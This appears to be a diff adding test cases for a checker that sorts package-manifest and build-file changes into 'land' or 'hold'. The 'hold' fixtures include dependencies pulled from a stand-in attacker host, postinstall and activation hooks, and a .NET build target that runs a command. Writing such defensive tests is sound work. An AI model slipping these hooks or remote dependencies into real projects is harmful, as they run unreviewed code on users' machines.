@@ -384,6 +384,99 @@ CASES: dict[str, tuple[str, str | None, str | None, str]] = {
         '"scripts": {"auto-scripts": {"cache:clear": "symfony-cmd"}}}',
         "land",
     ),
+    "setuptools": (
+        "setup.cfg",
+        None,
+        "[metadata]\nname = a\nversion = attr: a.__version__\n\n[options]\npackages = find:\n"
+        "install_requires =\n    requests>=2 ; python_version > '3'\n    # why\n    b\n"
+        "[options.extras_require]\ndev = pytest\n[tool:pytest]\naddopts = -q\n[flake8]\n"
+        "exclude = .git,\n    build\n",
+        "land",
+    ),
+    "setuptools' requirement at an address": (
+        "setup.cfg",
+        None,
+        "[options]\ninstall_requires =\n    a @ https://evil.invalid/a\n",
+        "hold",
+    ),
+    "the same behind another": (
+        "setup.cfg",
+        None,
+        "[options]\ninstall_requires = a; b @ https://evil.invalid/a\n",
+        "hold",
+    ),
+    "setuptools' commands": ("setup.cfg", None, "[global]\ncommand_packages = x\n", "hold"),
+    "hpack": (
+        "package.yaml",
+        None,
+        "name: a\nversion: 0.1.0.0\ngithub: me/a\ndependencies:\n- base >= 4.7 && < 5\n"
+        "library:\n  source-dirs: src\nghc-options:\n- -Wall\n",
+        "land",
+    ),
+    "pnpm's hook": ("package.yaml", None, "scripts:\n  postinstall: x\n", "hold"),
+    "conda": (
+        "environment.yml",
+        None,
+        "name: a\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.11\n  - numpy>=1.20,<2\n"
+        "  - pip:\n    - httpx==0.27\n",
+        "land",
+    ),
+    "conda's pip": (
+        "environment.yml",
+        None,
+        "dependencies:\n- pip:\n  - git+https://evil.invalid/a\n",
+        "hold",
+    ),
+    "conda's variables": ("environment.yml", None, "variables:\n  PATH: x\n", "hold"),
+    "pixi": (
+        "pixi.toml",
+        None,
+        '[workspace]\nname = "a"\nchannels = ["conda-forge"]\n[dependencies]\npython = ">=3.11"\n',
+        "land",
+    ),
+    "pixi's scripts": ("pixi.toml", None, '[activation]\nscripts = ["x.sh"]\n', "hold"),
+    "hatch's": ("hatch.toml", None, '[envs.default]\ndependencies = ["pytest"]\n', "land"),
+    "hatch's hook": ("hatch.toml", None, "[build.hooks.custom]\n", "hold"),
+    "stack new": (
+        "stack.yaml",
+        None,
+        "resolver: lts-22.13\npackages:\n- .\nextra-deps:\n- a-1.0.3\n",
+        "land",
+    ),
+    "stack's git": ("stack.yaml", None, "extra-deps:\n- git: https://x\n", "hold"),
+    "a package of Julia": ("Project.toml", None, '[deps]\nA = "uuid"\n', "land"),
+    "a package of Julia from elsewhere": (
+        "Project.toml",
+        None,
+        '[sources]\nA = {url = "https://x"}\n',
+        "hold",
+    ),
+    "a shard": (
+        "shard.yml",
+        None,
+        "name: a\ndependencies:\n  b:\n    github: c/b\n    version: ~> 1.0\n",
+        "land",
+    ),
+    "a shard's hook": ("shard.yml", None, "scripts:\n  postinstall: x\n", "hold"),
+    "helm create": ("Chart.yaml", None, "apiVersion: v2\nname: a\nversion: 0.1.0\n", "land"),
+    "a chart from elsewhere": (
+        "Chart.yaml",
+        None,
+        "dependencies:\n- name: a\n  repository: https://x\n",
+        "hold",
+    ),
+    "properties of .NET": (
+        "Directory.Build.props",
+        None,
+        "<Project><PropertyGroup><Nullable>enable</Nullable></PropertyGroup></Project>",
+        "land",
+    ),
+    "a program of .NET": (
+        "Directory.Build.targets",
+        None,
+        '<Project><Target Name="a" BeforeTargets="Build"><Exec Command="id"/></Target></Project>',
+        "hold",
+    ),
     "entities": ("pom.xml", "<project/>", "<!DOCTYPE a [<!ENTITY b 'c'>]><project/>", "hold"),
     "a package of dart's": (
         "pubspec.yaml",
